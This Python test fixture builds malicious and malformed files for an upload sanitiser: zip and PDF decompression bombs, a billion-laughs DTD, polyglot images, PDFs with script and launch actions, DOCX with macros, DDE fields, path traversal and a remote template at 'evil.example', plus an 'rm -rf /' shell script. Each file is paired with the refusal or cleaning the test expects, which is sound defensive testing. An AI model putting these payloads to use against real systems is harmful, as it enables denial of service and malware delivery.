"""Files as no honest person sends them, made here byte by byte: each with what must become of it."""

import io
import struct
import wave
import zipfile
import zlib
from collections.abc import Callable
from typing import NamedTuple

import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.reporting.telling import photo

MARK = "奇观之作者"
"""What no cleaned copy may hold."""


class Case(NamedTuple):
    """A file, and the slug with which it is refused; None: it is cleaned of its mark."""

    name: str
    make: Callable[[], bytes]
    refused: str | None
    mark: bytes = b""


# ---- pictures -------------------------------------------------------------------------------------------------------


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), **options: object) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(out, kind, **options)  # type: ignore[arg-type]
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))


def lying_png(width: int, height: int) -> bytes:
    head = struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 99)) + chunk(b"IEND", b"")


def png_with_text() -> bytes:
    info = PngInfo()
    info.add_text("Author", MARK)
    info.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{MARK}</x:xmpmeta>")
    return picture("PNG", pnginfo=info)


def jpeg_with_comment() -> bytes:
    return picture("JPEG", comment=MARK.encode())


def jpeg_with_xmp() -> bytes:
    return picture("JPEG", xmp=f"<x:xmpmeta>{MARK}</x:xmpmeta>".encode())


def jpeg_with_iptc() -> bytes:
    said = MARK.encode()
    block = b"Photoshop 3.0\x00" + b"8BIM\x04\x04\x00\x00" + struct.pack(">L", len(said) + 5)
    block += b"\x1c\x02\x50" + struct.pack(">H", len(said)) + said
    segment = b"\xff\xed" + struct.pack(">H", len(block) + 2) + block
    plain = picture("JPEG")
    return plain[:2] + segment + plain[2:]


def gif_of(frames: int, size: tuple[int, int]) -> bytes:
    pictures = [Image.new("P", size, color % 200) for color in range(frames)]
    out = io.BytesIO()
    pictures[0].save(out, "GIF", save_all=True, append_images=pictures[1:], comment=MARK.encode(), optimize=False)
    return out.getvalue()


def gif_lying(width: int, height: int) -> bytes:
    made = bytearray(picture("GIF"))
    made[6:10] = struct.pack("<HH", width, height)
    return bytes(made)


def webp_with_exif() -> bytes:
    exif = Image.Exif()
    exif[0x013B] = "MARK-8848-OWNER"
    return picture("WEBP", exif=exif)


# ---- archives and documents -----------------------------------------------------------------------------------------


def zipped(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return out.getvalue()


WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def document(**more: bytes | str) -> bytes:
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": "<Types/>",
        "_rels/.rels": f'<Relationships xmlns="{RELATIONS}"/>',
        "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body><w:p w:author="{MARK}"/></w:body></w:document>',
        "docProps/core.xml": f"<cp:coreProperties><dc:creator>{MARK}</dc:creator></cp:coreProperties>",
        "docProps/app.xml": f"<Properties><Company>{MARK}</Company></Properties>",
    }
    parts |= more
    return zipped({name: content.encode() if isinstance(content, str) else content for name, content in parts.items()})


def relations(kind: str, target: str) -> str:
    return (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"'
        ' TargetMode="External"/></Relationships>'
    )


def sheet_bomb() -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>", "xl/a.xml": b"\0" * 250_000_000})


def overlapping() -> bytes:
    """One compressed block that many entries claim as theirs (a quoted-overlap bomb in small)."""
    body = zlib.compress(b"\0" * 9_000_000, 9)[2:-4]
    crc, names = zlib.crc32(b"\0" * 9_000_000), [f"word/{n:03}.xml".encode() for n in range(400)]
    local = b"PK\x03\x04" + struct.pack("<HHHHHLLLHH", 20, 0, 8, 0, 33, crc, len(body), 9_000_000, len(names[0]), 0)
    out = local + names[0] + body
    central = b""
    for name in [*names, b"word/document.xml", b"[Content_Types].xml"]:
        head = struct.pack(
            "<HHHHHHLLLHHHHHLL", 20, 20, 0, 8, 0, 33, crc, len(body), 9_000_000, len(name), 0, 0, 0, 0, 0, 0
        )
        central += b"PK\x01\x02" + head + name
    end = struct.pack("<HHHHLLH", 0, 0, len(names) + 2, len(names) + 2, len(central), len(out), 0)
    return out + central + b"PK\x05\x06" + end


def nested() -> bytes:
    inner = zipped({"a.txt": b"\0" * 40_000_000})
    for _ in range(3):
        inner = zipped({f"{n}.zip": inner for n in range(8)})
    return inner


def pdf(**change: Callable[[pikepdf.Pdf], None]) -> bytes:
    made = pikepdf.new()
    made.add_blank_page(page_size=(200, 200))
    made.docinfo["/Author"] = "Mark-8848-Author"
    for each in change.values():
        each(made)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def _script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('8848')"))


def _launch(made: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd-8848.exe"))
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action, T=pikepdf.String("8848")
    )
    made.pages[0].obj.Annots = pikepdf.Array([made.make_indirect(annotation)])


def _attached(made: pikepdf.Pdf) -> None:
    made.attachments["payload-8848.exe"] = pikepdf.AttachedFileSpec(made, b"MZ payload-8848")


def _photo_inside(made: pikepdf.Pdf) -> None:
    stream = pikepdf.Stream(made, photo())
    stream.stream_dict = pikepdf.Dictionary(
        Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=320, Height=240, BitsPerComponent=8,
        ColorSpace=pikepdf.Name.DeviceRGB, Filter=pikepdf.Name.DCTDecode,
    )  # fmt: skip
    made.pages[0].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=made.make_indirect(stream)))


def _bomb(made: pikepdf.Pdf) -> None:
    content = zlib.compress(b" " * 310_000_000, 1)
    stream = pikepdf.Stream(made, content)
    stream.stream_dict = pikepdf.Dictionary(Filter=pikepdf.Name.FlateDecode)
    made.pages[0].obj.Contents = made.make_indirect(stream)


def _bomb_in_bomb(made: pikepdf.Pdf) -> None:
    content = zlib.compress(zlib.compress(b" " * 310_000_000, 1), 1)
    stream = pikepdf.Stream(made, content)
    stream.stream_dict = pikepdf.Dictionary(Filter=[pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    made.pages[0].obj.Contents = made.make_indirect(stream)


def locked_pdf() -> bytes:
    made = pikepdf.new()
    made.add_blank_page()
    out = io.BytesIO()
    made.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    return out.getvalue()


def edited_pdf() -> bytes:
    """A PDF with an earlier version of itself still inside, as editors leave it."""
    first = pdf()
    number = b"1 0 obj<</Secret(was-here-8848)>>endobj\n"
    return first[: first.rfind(b"%%EOF")] + b"%%EOF\n" + number + first[first.rfind(b"startxref") :]


def locked_zip() -> bytes:
    made = bytearray(document())
    at = made.find(b"PK\x01\x02")
    made[6] |= 1
    made[at + 8] |= 1
    return bytes(made)


# ---- recordings -----------------------------------------------------------------------------------------------------


def box(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">L", len(content) + 8) + kind + content


def movie(*, brand: bytes = b"isom", boxes: bytes = b"") -> bytes:
    header = box(b"mvhd", bytes(4) + struct.pack(">LL", 3_800_000_000, 3_800_000_000) + bytes(88))
    track = box(b"trak", box(b"mdia", box(b"hdlr", bytes(8) + b"vide" + bytes(13))))
    return box(b"ftyp", brand + bytes(8)) + box(b"moov", header + track + boxes) + box(b"mdat", b"pixels" * 20)


def located() -> bytes:
    return box(b"udta", box(b"\xa9xyz", b"\x00\x12\x15\xc7+31.2304+121.4737/") + box(b"\xa9mod", b"MARK-8848"))


def metadata_track() -> bytes:
    return box(b"trak", box(b"mdia", box(b"hdlr", bytes(8) + b"meta" + b"MARK-8848" + bytes(9))))


def sound(more: bytes = b"") -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as made:
        made.setnchannels(1)
        made.setsampwidth(2)
        made.setframerate(8_000)
        made.writeframes(b"\x01\x02" * 400)
    plain = bytearray(out.getvalue() + more)
    plain[4:8] = struct.pack("<L", len(plain) - 8)
    return bytes(plain)


def mp3() -> bytes:
    frames = (b"\xff\xfb\x90\x00" + bytes(413)) * 10
    tag = b"TIT2" + struct.pack(">L", 10) + bytes(2) + b"\x00MARK-8848"
    return b"ID3\x03\x00\x00" + bytes([0, 0, 0, len(tag)]) + tag + frames + b"TAG" + b"MARK-8848".ljust(125, b"\0")


ELF = b"\x7fELF" + bytes(200)
EXE = b"MZ\x90\x00" + bytes(200) + b"This program cannot be run in DOS mode."
DTD = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'

CASES: dict[str, Case] = {
    # names
    "a file of nothing": Case("a.jpg", lambda: b"", "empty"),
    "a program by its name": Case("setup.exe", lambda: EXE, "name"),
    "a program behind a picture's name": Case("a.jpg", lambda: EXE, "type"),
    "a program with two endings": Case("photo.exe.jpg", lambda: picture("JPEG"), "name"),
    "a name that reads backwards": Case("photo\u202egpj.exe", lambda: EXE, "name"),
    "a name with a nought in it": Case("a.jpg\x00.exe", lambda: EXE, "name"),
    "a page as a picture": Case("a.png", lambda: b"<html><script>alert(1)</script></html>", "unreadable"),
    "a page by its name": Case("a.html", lambda: b"<html></html>", "name"),
    "a drawing with a script": Case("a.svg", lambda: b"<svg><script>alert(1)</script></svg>", "name"),
    "a shortcut": Case("a.lnk", lambda: b"L\0\0\0" + bytes(90), "name"),
    "a disk image": Case("a.iso", lambda: bytes(40_000), "name"),
    "a name without an ending": Case("photo", lambda: picture("JPEG"), "name"),
    # other kinds under good names
    "a Linux program as a document": Case("a.pdf", lambda: ELF, "type"),
    "a RAR archive as a document": Case("a.docx", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(99), "type"),
    "a 7z archive as a table": Case("a.xlsx", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(99), "type"),
    "a gzip file as a picture": Case("a.gif", lambda: b"\x1f\x8b\x08\x00" + bytes(99), "type"),
    "a plain archive as a document": Case("a.docx", lambda: zipped({"a.txt": b"x"}), "type"),
    "an old Word file": Case("a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "type"),
    "a page as text": Case("a.txt", lambda: b"<!DOCTYPE html><html><script>x</script>", "disguised"),
    "a shell script as text": Case("a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "disguised"),
    "a mail as text": Case("a.txt", lambda: b"MIME-Version: 1.0\nContent-Type: text/html\n\n<b>x", "disguised"),
    "the scanners' test file as text": Case("a.txt", lambda: b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", "disguised"),
    "noise as text": Case("a.txt", lambda: bytes(range(256)) * 4, "type"),
    # pictures
    "a photo with a position": Case("a.jpg", photo, None, b"Mate60-Probe"),
    "a photo with a comment": Case("a.jpg", jpeg_with_comment, None, MARK.encode()),
    "a photo with its edits": Case("a.jpg", jpeg_with_xmp, None, MARK.encode()),
    "a photo with a press caption": Case("a.jpg", jpeg_with_iptc, None, MARK.encode()),
    "a drawing with hidden text": Case("a.png", png_with_text, None, MARK.encode()),
    "a WebP with an owner": Case("a.webp", webp_with_exif, None, b"MARK-8848-OWNER"),
    "a moving picture with a comment": Case("a.gif", lambda: gif_of(4, (30, 20)), None, MARK.encode()),
    "a PNG that claims 900 megapixels": Case("a.png", lambda: lying_png(30_000, 30_000), "too-many-pixels"),
    "a GIF that claims 4 gigapixels": Case("a.gif", lambda: gif_lying(65_000, 65_000), "too-many-pixels"),
    "a GIF of a thousand frames": Case("a.gif", lambda: gif_of(1_000, (8, 8)), "too-many-pixels"),
    "a picture that is an archive too": Case("a.jpg", lambda: picture("JPEG") + zipped({"a": b"x"}), "disguised"),
    "a GIF that is a Java archive": Case("a.gif", lambda: picture("GIF") + zipped({"A.class": b"x"}), "disguised"),
    "a picture with a program behind it": Case("a.png", lambda: picture("PNG") + EXE, "disguised"),
    "a picture with a page behind it": Case("a.jpg", lambda: picture("JPEG") + b"<html><script>x", "disguised"),
    "a picture with a RAR archive behind it": Case(
        "a.jpg", lambda: picture("JPEG") + b"Rar!\x1a\x07\x01\x00" + bytes(9), "disguised"
    ),
    "a picture with noise behind it": Case("a.png", lambda: picture("PNG") + b"MARK-8848" * 9, None, b"MARK-8848"),
    "a picture cut short": Case("a.jpg", lambda: photo()[:900], "unreadable"),
    "a picture of which only the head is right": Case("a.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(99), "unreadable"),
    "a telephone's HEIC": Case("a.jpg", lambda: box(b"ftyp", b"heic" + bytes(12)), "type"),
    # documents
    "a document with its authors": Case("a.docx", document, None, MARK.encode()),
    "a document with macros": Case("a.docx", lambda: document(**{"word/vbaProject.bin": "x"}), "with-programs"),
    "a document with ActiveX": Case(
        "a.docx", lambda: document(**{"word/activeX/activeX1.xml": "<x/>"}), "with-programs"
    ),
    "a document with a program inside": Case(
        "a.docx", lambda: document(**{"word/embeddings/oleObject1.bin": EXE}), "with-programs"
    ),
    "a document that fetches its template": Case(
        "a.docx",
        lambda: document(**{"word/_rels/settings.xml.rels": relations("attachedTemplate", "http://evil.example/a.dotm")}),
        "with-programs",
    ),
    "a document that starts a program (DDE)": Case(
        "a.docx", lambda: document(**{"word/x.xml": "<w:instrText>DDEAUTO c:\\cmd</w:instrText>"}), "with-programs"
    ),
    "a document of a billion laughs": Case("a.docx", lambda: document(**{"word/x.xml": DTD}), "unpacks-too-far"),
    "a document with a link is fine, and cleaned": Case(
        "a.docx",
        lambda: document(**{"word/_rels/document.xml.rels": relations("hyperlink", "http://shop.example/")}),
        None,
        MARK.encode(),
    ),
    "a locked document": Case("a.docx", locked_zip, "locked"),
    "a table that unpacks to 250 MB": Case("a.xlsx", sheet_bomb, "unpacks-too-far"),
    "parts that lie over each other": Case("a.docx", overlapping, "unpacks-too-far"),
    "archives within archives": Case("a.docx", nested, "type"),
    "half a document": Case("a.docx", lambda: document()[:300], "unreadable"),
    # PDF
    "a PDF with its author": Case("a.pdf", pdf, None, b"Mark-8848-Author"),
    "a PDF with a script": Case("a.pdf", lambda: pdf(a=_script), None, b"app.alert"),
    "a PDF that starts a program": Case("a.pdf", lambda: pdf(a=_launch), None, b"cmd-8848"),
    "a PDF with a file inside": Case("a.pdf", lambda: pdf(a=_attached), None, b"payload-8848"),
    "a PDF with a photo that knows its place": Case("a.pdf", lambda: pdf(a=_photo_inside), None, b"Mate60-Probe"),
    "a PDF that unpacks to 310 MB": Case("a.pdf", lambda: pdf(a=_bomb), "unpacks-too-far"),
    "a PDF packed twice": Case("a.pdf", lambda: pdf(a=_bomb_in_bomb), "unpacks-too-far"),
    "a locked PDF": Case("a.pdf", locked_pdf, "locked"),
    "a PDF with an earlier version inside": Case("a.pdf", edited_pdf, None, b"was-here-8848"),
    "a PDF that is an archive too": Case("a.pdf", lambda: pdf() + zipped({"a.exe": EXE}), "disguised"),
    "half a PDF": Case("a.pdf", lambda: b"%PDF-1.7\n" + bytes(300), "unreadable"),
    # recordings
    "a video that knows its place": Case("a.mp4", lambda: movie(boxes=located()), None, b"+31.2304"),
    "a telephone's video with a track of places": Case(
        "a.mov", lambda: movie(brand=b"qt  ", boxes=metadata_track()), None, b"MARK-8848"
    ),
    "a dashboard camera's video": Case(
        "a.mp4",
        lambda: movie() + box(b"free", b"x") + box(b"mdat", b"$GPRMC,083000,A,3113.8,N,12128.4,E,0,0,231126,,*7A"),
        None,
        b"3113.8",
    ),
    "a video that fetches its pictures": Case(
        "a.mp4",
        lambda: movie(boxes=box(b"trak", box(b"mdia", box(b"minf", box(b"dinf", box(b"dref", b"http://evil.example")))))),
        "with-programs",
    ),
    "a document with a way out of its folder": Case("a.docx", lambda: document(**{"../x.xml": "<x/>"}), "disguised"),
    "a document with another page inside": Case(
        "a.docx", lambda: document(**{"word/x.xml": "<w:altChunk r:id='r1'/>"}), "with-programs"
    ),
    "a document whose field is cut into pieces": Case(
        "a.docx",
        lambda: document(**{"word/x.xml": "<w:instrText>DD</w:instrText><w:instrText>E cmd</w:instrText>"}),
        "with-programs",
    ),
    "a video whose boxes lie about their size": Case(
        "a.mp4",
        lambda: box(b"ftyp", b"isom" + bytes(8)) + struct.pack(">L4s", 2**31, b"moov") + bytes(40),
        "unreadable",
    ),
    "a video that is an archive too": Case("a.mp4", lambda: movie() + zipped({"a": b"x"}), "disguised"),
    "a sound with a title": Case("a.mp3", mp3, None, b"MARK-8848"),
    "a recording with its editor's notes": Case(
        "a.wav", lambda: sound(b"LIST" + struct.pack("<L", 10) + b"MARK-8848\0"), None, b"MARK-8848"
    ),
    "a sound that is none": Case("a.mp3", lambda: b"ID3\x03\x00\x00\x00\x00\x00\x01\x00" + bytes(400), "unreadable"),
}  # fmt: skip
